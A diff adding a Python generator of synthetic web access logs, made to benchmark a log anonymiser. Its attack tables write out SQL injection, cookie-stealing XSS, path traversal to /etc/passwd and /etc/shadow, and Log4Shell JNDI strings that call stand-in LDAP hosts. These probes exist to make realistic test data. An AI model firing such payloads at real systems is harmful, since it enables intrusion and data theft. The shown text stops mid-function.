@@ -1,0 +1,844 @@
+"""Realistic synthetic access logs of a time-registration web application.
+
+`logshroud demo` writes a day of these and ingests it; the benchmark writes a
+1,000,000-line log (5,000,000 for the memory bar). Every client address comes from
+the documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 and
+2001:db8::/32) and every client host name ends in example.net, so the logs hold
+no real person's address. One combined-format line:
+
+    2001:db8:4a1f:7c::3e1 - - [24/Nov/2026:10:15:02 +0100] "GET /api/v1/timesheets?week=2026-W48 HTTP/2.0" 200 5380 "https://app.example.com/app/timesheets" "Mozilla/5.0 (Macintosh; ...)"
+
+Besides ordinary traffic a log carries what the pipeline must cope with: personal data
+in URLs (e-mail addresses, tokens, an address in a query), attack probes in bursts from
+a few clients, `"-" 408 -` lines without a request, and a few broken lines (truncated,
+binary garbage with NUL bytes and invalid UTF-8, missing fields, empty).
+
+    python -m pipelines.generate data/raw/access.log.gz --lines 1000000 --day 2026-11-24
+
+Speed comes from never formatting a line on its own: every field is picked with numpy
+from a pool of pre-formatted pieces (one timestamp text per second of the day, one
+text per status code, ...) and a block of lines is a single `b"".join` over its pieces.
+The same spec always gives the same bytes.
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import dataclasses
+import datetime
+import gzip
+import ipaddress
+import time
+import zoneinfo
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass
+from pathlib import Path
+from typing import BinaryIO, NamedTuple
+
+import numpy as np
+
+FORMATS = ("combined", "common", "vhost_combined")
+
+# ~12 MB of text: large enough that numpy's per-call cost vanishes, small enough that
+# a 5,000,000-line log streams through in bounded memory.
+_BLOCK_LINES = 50_000
+_SECONDS_PER_DAY = 86_400
+_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
+
+# Apache writes 408 with request line "-" when a client opens a connection and sends
+# nothing before the timeout: browsers' pre-connects do this all day long.
+_TIMEOUT_SHARE = 0.0008
+# Browser users now and then switch device (laptop to phone) behind the same address.
+_AGENT_SWITCH_SHARE = 0.03
+# Most probes come in bursts from a few clients; the rest are the internet's background noise.
+_ATTACK_BURST_SHARE = 0.8
+_ATTACK_BURST_MEAN_LINES = 40
+_ATTACKERS = 6
+# Clients' popularity falls off as rank ** -1.1: a big customer's office NAT sends ~7%
+# of its family's requests, most addresses a handful.
+_ZIPF_EXPONENT = 1.1
+_ZIPF_OFFSET = 3
+
+_BROWSER, _INTEGRATION, _ROBOT = 0, 1, 2
+_CLIENT_KIND_SHARES = (0.84, 0.09, 0.07)
+
+# Columns of the pieces matrix of a block; joined row by row they make the lines.
+(_VHOST, _CLIENT, _USER, _TIME, _METHOD, _PATH, _ID, _SUFFIX, _QUERY, _PROTOCOL,
+ _STATUS, _BYTES, _REFERRER, _AGENT) = range(14)
+_COLUMNS = 14
+
+_TRUNCATED, _GARBAGE, _MISSING_FIELDS, _EMPTY = range(4)
+
+
+@dataclass(frozen=True)
+class LogSpec:
+    """What to generate. Shares are shares of lines (requests), not of clients.
+
+    Events fall on the UTC `day`; the CLF time field shows local time, UTC plus
+    `utc_offset_minutes`, with that offset written after it (`+0100`).
+    """
+
+    lines: int = 200_000
+    day: datetime.date = datetime.date(2026, 11, 24)
+    seed: int = 1
+    fmt: str = "combined"
+    ipv6_share: float = 0.3
+    mapped_share: float = 0.05
+    hostname_share: float = 0.0
+    attack_share: float = 0.01
+    broken_share: float = 0.0005
+    utc_offset_minutes: int = 60
+
+    def __post_init__(self) -> None:
+        if self.lines < 0:
+            raise ValueError(f"lines must be 0 or more, not {self.lines}")
+        if self.fmt not in FORMATS:
+            raise ValueError(f"fmt must be one of {', '.join(FORMATS)}, not {self.fmt!r}")
+        for name in ("ipv6_share", "mapped_share", "hostname_share", "attack_share", "broken_share"):
+            if not 0.0 <= getattr(self, name) <= 1.0:
+                raise ValueError(f"{name} must lie between 0 and 1, not {getattr(self, name)}")
+        if self.ipv6_share + self.mapped_share + self.hostname_share > 1.0:
+            raise ValueError("ipv6_share + mapped_share + hostname_share must not exceed 1")
+        if abs(self.utc_offset_minutes) >= 24 * 60:
+            raise ValueError(f"utc_offset_minutes must lie within a day, not {self.utc_offset_minutes}")
+
+    @property
+    def broken_lines(self) -> int:
+        return round(self.lines * self.broken_share)
+
+
+@dataclass(frozen=True)
+class GeneratedLog:
+    path: str
+    lines: int
+    broken_lines: int
+    size_bytes: int
+
+
+# --- what the application serves -----------------------------------------------------------
+
+class _Route(NamedTuple):
+    method: str
+    path: str  # "{}" marks where a piece from the `ids` pool goes
+    ids: str
+    query: str
+    status: str
+    size: int  # median bytes of a successful response
+    spread: float  # lognormal sigma of that size; 0 for a fixed file
+    referrer: str
+    weights: tuple[float, float, float]  # how often browsers, integrations and robots ask for it
+
+
+_ROUTES = (
+    _Route("GET", "/api/v1/timesheets", "", "week", "read", 5200, 0.5, "app", (14, 10, 0)),
+    _Route("GET", "/api/v1/timesheets/{}", "timesheet", "", "read", 2100, 0.4, "app", (10, 6, 0)),
+    _Route("PUT", "/api/v1/timesheets/{}", "timesheet", "", "update", 2100, 0.3, "app", (4, 2, 0)),
+    _Route("POST", "/api/v1/timesheets/{}/submit", "timesheet", "", "create", 310, 0.2, "app", (1.5, 0.5, 0)),
+    _Route("GET", "/api/v1/projects", "", "page", "read", 8600, 0.6, "app", (5, 8, 0)),
+    _Route("GET", "/api/v1/projects/{}/entries", "project", "week", "read", 4300, 0.7, "app", (9, 8, 0)),
+    _Route("POST", "/api/v1/projects/{}/entries", "project", "", "create", 420, 0.2, "app", (6, 6, 0)),
+    _Route("PUT", "/api/v1/entries/{}", "entry", "", "update", 420, 0.2, "app", (4, 2, 0)),
+    _Route("DELETE", "/api/v1/entries/{}", "entry", "", "delete", 0, 0.0, "app", (1, 0.5, 0)),
+    _Route("GET", "/api/v1/me", "", "", "read", 780, 0.1, "app", (6, 2, 0)),
+    _Route("GET", "/api/v1/notifications", "", "since", "read", 640, 0.8, "app", (6, 0, 0)),
+    _Route("POST", "/api/v1/auth/refresh", "", "", "refresh", 540, 0.05, "app", (3, 2, 0)),
+    _Route("GET", "/api/v1/reports/hours", "", "report", "read", 48_000, 1.0, "app", (0.8, 3, 0)),
+    _Route("GET", "/app/{}", "page", "", "page", 2300, 0.02, "entry", (4, 0, 0)),
+    _Route("GET", "/static/app.3f9c2a1b.js", "", "", "static", 412_388, 0.0, "asset", (3, 0, 0)),
+    _Route("GET", "/static/vendor.8e41d07c.js", "", "", "static", 1_204_551, 0.0, "asset", (3, 0, 0)),
+    _Route("GET", "/static/app.b2c47e90.css", "", "", "static", 58_212, 0.0, "asset", (3, 0, 0)),
+    _Route("GET", "/static/fonts/inter-var.a91f3c.woff2", "", "", "static", 318_044, 0.0, "asset", (1, 0, 0)),
+    _Route("GET", "/static/img/logo.5c2e0d.svg", "", "", "static", 4182, 0.0, "asset", (2, 0, 0)),
+    # the previous build: tabs left open over a deploy still ask for it
+    _Route("GET", "/static/app.7d10e5f2.js", "", "", "stale", 409_771, 0.0, "asset", (0.15, 0, 0)),
+    _Route("GET", "/favicon.ico", "", "", "favicon", 15_086, 0.0, "asset", (1.5, 0, 0.5)),
+    _Route("GET", "/login", "", "next", "page", 3100, 0.02, "entry", (2, 0, 0.6)),
+    _Route("POST", "/login", "", "", "login", 3100, 0.02, "login", (1.6, 0.3, 0)),
+    _Route("GET", "/logout", "", "", "redirect", 0, 0.0, "app", (0.4, 0, 0)),
+    _Route("GET", "/", "", "", "root", 2300, 0.02, "entry", (1, 0, 1.5)),
+    _Route("HEAD", "/healthz", "", "", "health", 0, 0.0, "none", (0, 0.5, 6)),
+    _Route("GET", "/healthz", "", "", "health", 15, 0.0, "none", (0, 1, 2)),
+    _Route("GET", "/robots.txt", "", "", "robots", 68, 0.0, "none", (0, 0, 1.5)),
+    _Route("GET", "/sitemap.xml", "", "", "robots", 1290, 0.0, "none", (0, 0, 0.5)),
+    # personal data in the URL: what the anonymiser must scrub
+    _Route("GET", "/api/v1/users/{}", "email", "", "read", 920, 0.1, "app", (0.5, 0.8, 0)),
+    _Route("GET", "/api/v1/users", "", "email", "read", 1100, 0.3, "app", (0.3, 0.5, 0)),
+    _Route("GET", "/reset-password", "", "reset", "token", 2900, 0.02, "mail", (0.2, 0, 0)),
+    _Route("GET", "/api/v1/invitations/accept", "", "token", "token", 610, 0.1, "mail", (0.15, 0, 0)),
+    _Route("GET", "/api/v1/admin/audit", "", "ip", "admin", 12_000, 0.8, "app", (0.1, 0.2, 0)),
+)
+
+_STATUSES = (200, 201, 204, 206, 301, 302, 304, 400, 401, 403, 404, 405, 408, 409, 410, 422, 429, 500, 502, 503, 504)
+_STATUS_PROFILES: dict[str, dict[int, float]] = {
+    "read": {200: 0.915, 304: 0.04, 404: 0.025, 401: 0.01, 403: 0.003, 429: 0.002,
+             500: 0.002, 502: 0.001, 503: 0.001, 504: 0.001},
+    "create": {201: 0.9, 200: 0.02, 400: 0.04, 422: 0.015, 409: 0.008, 401: 0.008, 500: 0.005, 503: 0.004},
+    "update": {200: 0.92, 400: 0.03, 409: 0.015, 404: 0.015, 401: 0.01, 500: 0.006, 503: 0.004},
+    "delete": {204: 0.93, 404: 0.045, 403: 0.015, 500: 0.01},
+    "refresh": {200: 0.9, 401: 0.1},
+    "page": {200: 0.78, 304: 0.15, 302: 0.07},
+    "static": {200: 0.6, 304: 0.39, 206: 0.005, 404: 0.005},
+    "stale": {404: 0.92, 200: 0.08},
+    "favicon": {200: 0.6, 304: 0.4},
+    "login": {302: 0.8, 200: 0.02, 401: 0.14, 403: 0.03, 429: 0.01},
+    "redirect": {302: 1.0},
+    "root": {302: 0.9, 200: 0.1},
+    "health": {200: 0.998, 503: 0.002},
+    "robots": {200: 0.8, 304: 0.2},
+    "token": {200: 0.75, 302: 0.08, 400: 0.07, 404: 0.05, 410: 0.05},
+    "admin": {200: 0.8, 403: 0.2},
+    "probe": {404: 0.86, 403: 0.12, 400: 0.02},
+    "injection": {400: 0.45, 403: 0.25, 404: 0.1, 500: 0.1, 200: 0.1},
+    "traversal": {400: 0.55, 404: 0.35, 403: 0.1},
+    "jndi": {302: 0.35, 200: 0.25, 404: 0.2, 400: 0.2},
+    "guessing": {401: 0.93, 429: 0.05, 302: 0.02},
+}
+
+
+class _Agent(NamedTuple):
+    text: str  # as Apache writes it: `"` escaped as `\"`, bytes outside printable ASCII as `\xhh`
+    group: str
+    weight: float
+
+
+_CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0"
+_AGENTS = (
+    _Agent(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36", "browser", 30),
+    _Agent(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36 Edg/131.0.0.0", "browser", 14),
+    _Agent(f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_CHROME} Safari/537.36", "browser", 12),
+    _Agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", "browser", 7),
+    _Agent("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "browser", 2),
+    _Agent("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+           "Version/18.1 Safari/605.1.15", "browser", 8),
+    _Agent("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+           "Version/18.1 Mobile/15E148 Safari/604.1", "browser", 9),
+    _Agent("Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+           "Version/17.6 Mobile/15E148 Safari/604.1", "browser", 2),
+    _Agent(f"Mozilla/5.0 (Linux; Android 10; K) {_CHROME} Mobile Safari/537.36", "browser", 7),
+    _Agent("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
+           "SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36", "browser", 2),
+    _Agent("ExampleTime/4.12.0 (iPhone; iOS 18.1; Scale/3.00)", "browser", 3),
+    _Agent("ExampleTime/4.12.0 (Android 14; Pixel 8)", "browser", 2),
+    # a corporate proxy that appends a quoted tag, and a device name outside ASCII
+    _Agent(f'Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36 \\"Contoso-Proxy/2.1\\"',
+           "browser", 0.4),
+    _Agent(r"Mozilla/5.0 (Linux; Android 13; \xe5\xb0\x8f\xe7\xb1\xb3 12T) AppleWebKit/537.36 (KHTML, like Gecko) "
+           "Chrome/131.0.0.0 Mobile Safari/537.36", "browser", 0.3),
+    _Agent(r'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; \"Caf\xc3\xa9 Kiosk\")', "browser", 0.1),
+    _Agent("curl/8.5.0", "integration", 2),
+    _Agent("python-requests/2.32.3", "integration", 4),
+    _Agent("Go-http-client/1.1", "integration", 2),
+    _Agent("PostmanRuntime/7.42.0", "integration", 1),
+    _Agent("okhttp/4.12.0", "integration", 1),
+    _Agent("axios/1.7.7", "integration", 1),
+    _Agent("Apache-HttpClient/4.5.14 (Java/17.0.9)", "integration", 1),
+    _Agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "robot", 3),
+    _Agent("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "robot", 2),
+    _Agent("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "robot", 4),
+    _Agent("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "robot", 1),
+    _Agent("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "robot", 1),
+    _Agent("-", "robot", 1),
+    _Agent("sqlmap/1.8.11#stable (https://sqlmap.org)", "scanner", 0),
+    _Agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", "scanner", 0),
+    _Agent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "scanner", 0),
+    _Agent("Mozilla/5.0 zgrab/0.x", "scanner", 0),
+    _Agent("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "scanner", 0),
+    _Agent("Mozilla/4.0 (Hydra)", "scanner", 0),
+    _Agent("${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}", "scanner", 0),
+    _Agent("${${lower:j}ndi:${lower:l}dap://198.51.100.201:1389/a}", "scanner", 0),
+)
+_AGENT_INDEX = {agent.text: i for i, agent in enumerate(_AGENTS)}
+_NO_AGENT = _AGENT_INDEX["-"]
+
+
+class _Attack(NamedTuple):
+    method: str
+    targets: tuple[str, ...]  # request targets as Apache writes them
+    agents: tuple[str, ...]
+    status: str
+    burst_weight: float
+    single_weight: float
+
+
+_SPOOFED_CHROME = _AGENTS[0].text
+_ATTACKS = (
+    _Attack("GET", ("/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/setup-config.php",
+                    "/xmlrpc.php", "/phpmyadmin/index.php", "/server-status", "/actuator/env", "/.aws/credentials",
+                    "/config.json", "/backup.sql", "/.DS_Store", "/owa/auth/logon.aspx",
+                    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale"),
+            ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
+             "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Mozilla/5.0 zgrab/0.x",
+             "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", _SPOOFED_CHROME),
+            "probe", 0.3, 0.7),
+    _Attack("GET", ("/api/v1/timesheets?id=1%27%20OR%201=1--", "/api/v1/projects?page=1%27%20AND%20SLEEP(5)--",
+                    "/api/v1/projects/1%20UNION%20SELECT%20username,password%20FROM%20users--/entries",
+                    "/login?next=%27%3B%20DROP%20TABLE%20users--",
+                    "/api/v1/timesheets?week=2026-W48%27%20AND%201=CONVERT(int,@@version)--",
+                    "/api/v1/users?email=admin%40example.com%27%20OR%20%271%27=%271"),
+            ("sqlmap/1.8.11#stable (https://sqlmap.org)",),
+            "injection", 0.15, 0.05),
+    _Attack("GET", ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+                    "/app/projects?name=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
+                    "/login?next=javascript:alert(1)", "/api/v1/projects?sort=%22%3E%3Csvg/onload=alert(1)%3E",
+                    '/search?q=\\"><script>alert(1)</script>'),
+            ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", _SPOOFED_CHROME),
+            "injection", 0.1, 0.05),
+    _Attack("GET", ("/../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd",
+                    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/api/v1/reports/hours?file=../../../../etc/passwd",
+                    "/static/....//....//....//etc/shadow", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
+                    "/..%5c..%5c..%5cwindows%5cwin.ini"),
+            ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", "curl/8.5.0", _SPOOFED_CHROME),
+            "traversal", 0.1, 0.1),
+    _Attack("GET", ("/", "/login", "/api/v1/me", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D"),
+            ("${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}",
+             "${${lower:j}ndi:${lower:l}dap://198.51.100.201:1389/a}"),
+            "jndi", 0.1, 0.1),
+    _Attack("POST", ("/login", "/api/v1/auth/login"),
+            ("python-requests/2.32.3", "Mozilla/4.0 (Hydra)", _SPOOFED_CHROME),
+            "guessing", 0.25, 0.0),
+)
+
+_SERVICE_ACCOUNTS = ("svc-payroll", "svc-exact-sync", "api-afas", "export-bot", "p.bakker@example.com")
+_PEOPLE = ("jan.jansen", "sanne.devries", "pieter.bakker", "anouk.visser", "daan.smit", "emma.meijer",
+           "lucas.deboer", "julia.mulder", "sem.degroot", "tess.bos", "finn.vos", "lotte.peters",
+           "noah.hendriks", "fleur.vandijk", "milan.dekker", "sophie.vanleeuwen", "j.de.vries", "m.el-amrani")
+_MAIL_DOMAINS = ("example.com", "example.com", "example.org", "example.net")
+_APP_PAGES = ("timesheets", "projects", "reports", "dashboard", "settings", "approvals", "timesheets/week")
+
+# Requests per hour of local (Amsterdam) time, relative: people register hours in office
+# hours, with a dip at lunch and a small evening catch-up; weekends are quiet and flat.
+_WORKDAY_RATE = (0.6, 0.4, 0.3, 0.3, 0.35, 0.6, 1.5, 4, 8, 10, 10, 9.5,
+                 7, 8.5, 9.5, 9.5, 9, 6, 3, 2.2, 2.5, 2.2, 1.5, 1)
+_WEEKEND_RATE = (0.6, 0.4, 0.3, 0.3, 0.3, 0.4, 0.6, 1, 1.5, 2, 2.2, 2.2,
+                 2, 2, 2, 2, 1.8, 1.6, 1.5, 1.6, 2, 2, 1.4, 0.9)
+
+_V4_NETWORKS = ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")
+_V6_DOCUMENTATION = 0x20010DB8 << 96
+_V6_SITES = 300
+
+
+# --- pools of pre-formatted pieces ---------------------------------------------------------
+
+def _objects(items: Sequence[bytes]) -> np.ndarray:
+    array = np.empty(len(items), dtype=object)
+    array[:] = list(items)
+    return array
+
+
+def _cumulative(weights: Sequence[float] | np.ndarray) -> np.ndarray:
+    """Cumulative probabilities that reach exactly 1.0 at the last item with any weight.
+
+    Rounding would otherwise leave the total a hair below 1, and a draw above it would
+    pick a trailing item of weight 0.
+    """
+    weights = np.asarray(weights, dtype=float)
+    cum = np.cumsum(weights) / weights.sum()
+    cum[np.flatnonzero(weights)[-1]:] = 1.0
+    return cum
+
+
+def _pick(cum: np.ndarray, rng: np.random.Generator, n: int) -> np.ndarray:
+    return np.searchsorted(cum, rng.random(n), side="right")
+
+
+def _draw(cum: np.ndarray, rng: np.random.Generator) -> np.ndarray:
+    """One index per row of `cum`, each row its own cumulative distribution."""
+    return (rng.random(len(cum))[:, None] >= cum).sum(axis=1)
+
+
+class _Pool:
+    """Pre-formatted pieces and how often each is picked."""
+
+    def __init__(self, items: Sequence[bytes], weights: Sequence[float] | None = None) -> None:
+        self.items = _objects(items)
+        self.cum = _cumulative(np.ones(len(items)) if weights is None else weights)
+
+    def pick(self, rng: np.random.Generator, n: int) -> np.ndarray:
+        return self.items[_pick(self.cum, rng, n)]
+
+
+def _zipf(n: int) -> np.ndarray:
+    return 1.0 / (np.arange(n) + _ZIPF_OFFSET) ** _ZIPF_EXPONENT
+
+
+def _iso_week(day: datetime.date) -> str:
+    year, week, _ = day.isocalendar()
+    return f"{year}-W{week:02d}"
+
+
+def _hex(rng: np.random.Generator, chars: int) -> str:
+    return rng.bytes(chars // 2).hex()
+
+
+def _emails(rng: np.random.Generator) -> list[str]:
+    return [f"{person}@{_MAIL_DOMAINS[rng.integers(len(_MAIL_DOMAINS))]}" for person in _PEOPLE]
+
+
+def _id_pools(rng: np.random.Generator, emails: list[str]) -> dict[str, _Pool]:
+    def numbers(low: int, high: int, count: int) -> _Pool:
+        chosen = low + rng.choice(high - low, size=count, replace=False)
+        return _Pool([b"%d" % v for v in chosen.tolist()], _zipf(count))
+
+    return {
+        "timesheet": numbers(41_000, 99_000, 6000),
+        "project": numbers(1, 2500, 400),
+        "entry": numbers(1_200_000, 9_999_999, 30_000),
+        "email": _Pool([e.encode() for e in emails]),
+        "page": _Pool([p.encode() for p in _APP_PAGES], (8, 4, 2, 5, 1, 1, 3)),
+    }
+
+
+def _query_pools(rng: np.random.Generator, day: datetime.date, emails: list[str]) -> dict[str, _Pool]:
+    weeks = [_iso_week(day - datetime.timedelta(weeks=k)) for k in (0, 1, 2, 3, -1)]
+    week_items, week_weights = [b""], [0.15]
+    for week, weight in zip(weeks, (0.5, 0.2, 0.07, 0.03, 0.05)):
+        week_items += [f"?week={week}".encode(), f"?week={week}&page=2".encode(), f"?week={week}&page=3".encode()]
+        week_weights += [weight * 0.8, weight * 0.15, weight * 0.05]
+    month = day.replace(day=1)
+    next_month = (month + datetime.timedelta(days=32)).replace(day=1)
+    span = f"from={month}&to={next_month - datetime.timedelta(days=1)}"
+    tokens = [_hex(rng, 32) for _ in range(60)]
+    jwts = [f"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{_hex(rng, 48)}.{_hex(rng, 43)}" for _ in range(20)]
+    encoded = [e.replace("@", "%40") for e in emails]
+    addresses = ("192.0.2.44", "198.51.100.7", "203.0.113.201", "2001:db8:4a1f:7c::3e1", "2001:db8:c0de::17")
+    return {
+        "week": _Pool(week_items, week_weights),
+        "page": _Pool([b"", b"?page=2", b"?page=3", b"?page=1&per_page=100", b"?sort=name", b"?archived=true"],
+                      (60, 12, 4, 10, 10, 4)),
+        "since": _Pool([f"?since={day}T{hour:02d}:00:00Z".encode() for hour in range(24)]),
+        "report": _Pool([f"?{span}&format=csv".encode(), f"?{span}&format=xlsx".encode(),
+                         f"?{span}&project=117&format=pdf".encode()], (5, 3, 1)),
+        "next": _Pool([b"", b"?next=%2Fapp%2Ftimesheets", f"?next=%2Fapp%2Ftimesheets%3Fweek%3D{weeks[0]}".encode(),
+                       b"?expired=1", b"?lang=nl"], (80, 6, 5, 6, 3)),
+        "email": _Pool([f"?email={e}".encode() for e in encoded + emails]),
+        "reset": _Pool([f"?token={t}&email={e}".encode() for t, e in zip(tokens, encoded * 4)]),
+        "token": _Pool([f"?token={t}".encode() for t in tokens + jwts]),
+        "ip": _Pool([f"?ip={a}".encode() for a in addresses] + [f"?ip={a}&{span}".encode() for a in addresses]),
+    }
+
+
+def _referrer_pools(rng: np.random.Generator, day: datetime.date, emails: list[str]) -> dict[str, _Pool]:
+    app = "https://app.example.com"
+    pools: dict[str, list[tuple[str, float]]] = {
+        "none": [("-", 1)],
+        "app": [(f"{app}/app/timesheets", 5), (f"{app}/app/timesheets?week={_iso_week(day)}", 3),
+                (f"{app}/app/projects", 3), (f"{app}/app/projects/117", 1), (f"{app}/app/projects/42", 1),
+                (f"{app}/app/reports", 1), (f"{app}/app/dashboard", 3), (f"{app}/app/settings", 0.5), ("-", 1.5),
+                (f"{app}/app/users/{emails[0]}", 0.1),
+                (f"{app}/reset-password?token={_hex(rng, 32)}&email={emails[1].replace('@', '%40')}", 0.05)],
+        "entry": [("-", 50), ("https://www.google.com/", 20), ("https://www.google.nl/", 8),
+                  ("https://www.bing.com/", 4), ("https://duckduckgo.com/", 3), ("https://www.example.com/", 8),
+                  (f"{app}/app/dashboard", 7), (f"{app}/login", 5)],
+        "asset": [(f"{app}/app/timesheets", 5), (f"{app}/app/dashboard", 3), (f"{app}/login", 3),
+                  (f"{app}/app/projects", 2), ("-", 0.5)],
+        "mail": [("-", 70), ("https://outlook.office.com/", 12), ("https://mail.google.com/", 10),
+                 ("https://teams.microsoft.com/", 3)],
+        "login": [(f"{app}/login", 9), (f"{app}/login?next=%2Fapp%2Ftimesheets", 1)],
+    }
+    return {name: _Pool([f' "{text}" "'.encode() for text, _ in items], [w for _, w in items])
+            for name, items in pools.items()}
+
+
+# --- clients -------------------------------------------------------------------------------
+
+class _Clients(NamedTuple):
+    text: np.ndarray  # b"203.0.113.7"
+    kind: np.ndarray  # _BROWSER, _INTEGRATION or _ROBOT
+    user: np.ndarray  # b" - - [" or b" - svc-payroll ["
+    agent: np.ndarray  # index into _AGENTS
+    protocol: np.ndarray  # b" HTTP/1.1" or b" HTTP/2.0"
+    families: list[tuple[int, np.ndarray]]  # (first client, cumulative popularity) of v4, v6, mapped, hostnames
+
+
+def _ipv4_addresses(rng: np.random.Generator) -> list[str]:
+    addresses = [str(a) for net in _V4_NETWORKS for a in ipaddress.IPv4Network(net)]
+    return [addresses[i] for i in rng.permutation(len(addresses))]
+
+
+def _interface_id(rng: np.random.Generator) -> int:
+    draw = rng.random()
+    if draw < 0.8:  # privacy extensions: random, rotated daily
+        return int.from_bytes(rng.bytes(8), "big")
+    if draw < 0.9:  # EUI-64 from a MAC address: ff:fe in the middle, universal/local bit flipped
+        mac = int.from_bytes(rng.bytes(6), "big")
+        return ((mac >> 24) ^ 0x020000) << 40 | 0xFFFE << 24 | (mac & 0xFFFFFF)
+    return int(rng.integers(1, 0x30))  # servers and gateways numbered by hand
+
+
+def _ipv6_addresses(rng: np.random.Generator) -> list[str]:
+    """A few hundred /48 sites with several thousand /64s between them, 1-3 hosts per /64."""
+    addresses = set()
+    for site in rng.choice(1 << 16, size=_V6_SITES, replace=False).tolist():
+        provider = rng.random() < 0.7  # a provider's pool hands out scattered /64s; an office numbers them 0, 1, ...
+        count = int(rng.geometric(1 / 16 if provider else 1 / 4))
+        subnets = rng.choice(1 << 16, size=count, replace=False).tolist() if provider else range(count)
+        for subnet in subnets:
+            for _ in range(int(rng.integers(1, 4))):
+                value = _V6_DOCUMENTATION | site << 80 | subnet << 64 | _interface_id(rng)
+                addresses.add(ipaddress.IPv6Address(value).compressed)
+    ordered = sorted(addresses)
+    return [ordered[i] for i in rng.permutation(len(ordered))]
+
+
+def _hostnames(rng: np.random.Generator) -> list[str]:
+    cities = ("amsterdam", "utrecht", "rotterdam", "eindhoven", "groningen")
+    names = {f"host-{i}.example.net" for i in rng.choice(5000, 150, replace=False).tolist()}
+    names |= {f"ip-203-0-113-{i}.dyn.example.net" for i in rng.choice(256, 100, replace=False).tolist()}
+    names |= {f"vpn-gw{i}.corp.example.net" for i in range(1, 21)}
+    names |= {f"{cities[i % 5]}-{i}.fiber.example.net" for i in rng.choice(900, 130, replace=False).tolist()}
+    ordered = sorted(names)
+    return [ordered[i] for i in rng.permutation(len(ordered))]
+
+
+def _build_clients(rng: np.random.Generator) -> _Clients:
+    v4 = _ipv4_addresses(rng)
+    families = [v4, _ipv6_addresses(rng), [f"::ffff:{a}" for a in v4[:200]], _hostnames(rng)]
+    texts = [t.encode() for family in families for t in family]
+    n = len(texts)
+    kind = rng.choice(3, size=n, p=_CLIENT_KIND_SHARES)
+    agent = np.empty(n, dtype=np.int64)
+    for k, group in enumerate(("browser", "integration", "robot")):
+        members = [i for i, a in enumerate(_AGENTS) if a.group == group]
+        cum = _cumulative([_AGENTS[i].weight for i in members])
+        agent[kind == k] = np.array(members)[_pick(cum, rng, int((kind == k).sum()))]
+    authenticated = (kind == _INTEGRATION) & (rng.random(n) < 0.35)
+    users = np.full(n, b" - - [", dtype=object)
+    users[authenticated] = [f" - {_SERVICE_ACCOUNTS[i]} [".encode()
+                            for i in rng.integers(len(_SERVICE_ACCOUNTS), size=int(authenticated.sum()))]
+    http2 = (kind == _BROWSER) & (rng.random(n) < 0.4)
+    protocol = np.where(http2, b" HTTP/2.0", b" HTTP/1.1").astype(object)
+    starts = np.cumsum([0] + [len(f) for f in families[:-1]])
+    return _Clients(_objects(texts), kind, users, agent, protocol,
+                    [(int(s), _cumulative(_zipf(len(f)))) for s, f in zip(starts, families)])
+
+
+# --- time ----------------------------------------------------------------------------------
+
+def _second_weights(spec: LogSpec, rng: np.random.Generator) -> np.ndarray:
+    """Relative request rate in each UTC second of the day, following Amsterdam's working day."""
+    start = datetime.datetime.combine(spec.day, datetime.time(), tzinfo=datetime.timezone.utc)
+    try:
+        amsterdam = zoneinfo.ZoneInfo("Europe/Amsterdam")
+        offsets = [(start + datetime.timedelta(hours=h)).astimezone(amsterdam).utcoffset() for h in range(24)]
+        offset_hours = np.array([o.total_seconds() / 3600 for o in offsets])
